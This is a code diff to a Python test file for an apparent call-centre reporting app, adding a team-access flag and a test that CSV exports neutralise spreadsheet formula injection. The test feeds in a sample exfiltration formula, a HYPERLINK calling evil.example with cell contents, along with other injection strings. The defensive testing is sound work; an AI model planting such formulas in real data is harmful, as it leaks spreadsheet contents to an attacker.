@@ -21,19 +21,20 @@ from agentassist.config import Settings
 from agentassist.events import Channel, Utterance
 from agentassist.store.db import Store
 from agentassist.store.recordings import RecordingStore
-from agentassist.store.reports import covered_s
+from agentassist.store.reports import cell, covered_s
 from tests.databases import database_url, pg_admin_url, pg_url  # noqa: F401 - fixtures
 
 T0 = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
 USERS = [
     ("ada", "admin", []),
-    ("sue", "supervisor", []),
+    ("sue", "supervisor", []),  # no team, but all_teams (ALL_TEAMS): every team's calls
     ("tom", "team_leader", ["red"]),
     ("alice", "agent", ["red"]),
     ("carl", "agent", ["red", "blue"]),
     ("bob", "agent", ["blue"]),
     ("qa", "quality_checker", []),
 ]
+ALL_TEAMS = {"sue"}
 CARD = {
     "name": "QA",
     "description": "",
@@ -166,7 +167,7 @@ def _call(store: Store, call_id: str, agent: str, direction: str, start: datetim
 def env(database_url: str, tmp_path: Path) -> Iterator[Env]:  # noqa: F811
     store = Store(database_url)
     store.migrate()
-    tokens = {name: store.add_user(name, role, teams=teams) for name, role, teams in USERS}
+    tokens = {name: store.add_user(name, role, teams=teams, all_teams=name in ALL_TEAMS) for name, role, teams in USERS}
     speech_a1 = [("agent", 0, 10), ("agent", 20, 30), ("customer", 5, 15), ("customer", 40, 50)]
     _call(store, "a1", "alice", "inbound", T0, 100, adherence=0.8, speech=speech_a1)
     store.open_span("a1", "pause", 60, "alice")
@@ -262,6 +263,27 @@ def test_reports_export_csv(env: Env) -> None:
         ("blue", "2", "100.0"),
         ("red", "2", "210.0"),
     ]
+
+
+def test_csv_cells_typed_by_users_never_run_as_formulas(env: Env) -> None:
+    """OWASP's CSV injection advice: text that begins = + - @ tab or CR gets a leading quote, so a
+    spreadsheet shows it rather than running it; numbers the report computes stay numbers."""
+    admin = {"Authorization": f"Bearer {env.tokens['ada']}"}
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
+    r = env.client.put("/api/calls/b1/disposition", json={"disposition": formula}, headers=admin)
+    assert r.status_code == 200, r.text
+    r = env.client.post("/api/users", json={"name": "@mallory", "role": "agent", "teams": ["-red"]}, headers=admin)
+    assert r.status_code == 201, r.text
+    agents = list(csv.DictReader(io.StringIO(env.ok("ada", "/api/reports/agents", format="csv", **RANGE))))
+    bob = next(row for row in agents if row["agent"] == "bob")
+    assert bob["dispositions"] == "'" + formula + "=1"
+    assert bob["calls"] == "1" and bob["adherence_mean"] == "1.0"  # numbers untouched
+    assert env.ok("ada", "/api/reports/agents", **RANGE)["items"][1]["dispositions"] == {formula: 1}  # JSON as typed
+    teams = list(csv.DictReader(io.StringIO(env.ok("ada", "/api/reports/teams", format="csv", **RANGE))))
+    assert [t["team"] for t in teams] == ["'-red", "blue", "red"]
+    for text in ("+1", "-x", "@SUM(A1)", "\tcmd", "\rcmd", "=1"):
+        assert cell(text) == "'" + text
+    assert (cell(-1.5), cell(-3), cell("sale"), cell("")) == (-1.5, -3, "sale", "")  # negative numbers stay numbers
 
 
 def test_a_range_backwards_or_half_aware_is_rejected(env: Env) -> None:
